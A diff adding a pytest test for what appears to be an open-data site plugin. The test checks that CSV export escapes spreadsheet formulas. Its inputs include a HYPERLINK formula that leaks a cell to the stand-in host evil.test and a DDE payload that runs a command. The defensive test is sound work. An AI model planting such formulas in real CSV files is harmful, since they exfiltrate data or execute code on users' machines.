@@ -769,3 +769,24 @@ def test_pages_with_timelines_maps_and_related_documents_pass_axe(browser, shipp
 
 def test_every_link_of_the_shipped_site_resolves_from_disk(shipped_site):
     assert broken_links(shipped_site) == []
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("http://evil.test/?leak="&A1,"x")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1)",
+        "-2+3",
+        "\tx",
+    ],
+)
+def test_no_csv_cell_is_a_formula_a_spreadsheet_would_run(value):
+    """Case D1: a publisher, place or title written as a formula stays text in the CSV."""
+    from open_data.plugin import DOCUMENT_FIELDS, documents_csv
+
+    row = {column.name: value for column in DOCUMENT_FIELDS}
+    row[DOCUMENT_FIELDS[-1].name] = [value, "Plain"]
+    [_, read] = list(csv.reader(documents_csv([row]).splitlines()))
+    assert read[:-1] == ["'" + value] * (len(DOCUMENT_FIELDS) - 1)
+    assert read[-1].startswith("'" + value)
